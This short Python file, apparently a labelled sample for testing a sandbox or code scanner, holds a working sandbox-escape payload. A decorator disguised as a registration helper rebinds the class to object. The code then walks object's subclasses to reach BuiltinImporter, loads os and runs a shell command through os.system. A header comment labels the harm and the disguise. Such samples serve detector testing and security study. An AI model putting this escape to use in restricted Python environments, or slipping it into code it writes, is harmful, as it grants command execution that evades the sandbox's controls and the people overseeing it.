# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: file-local decorator rebinds its parameter to object then "returns its argument" name
def register(cls):
    cls = object
    return cls


@register
class Base:
    pass


for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
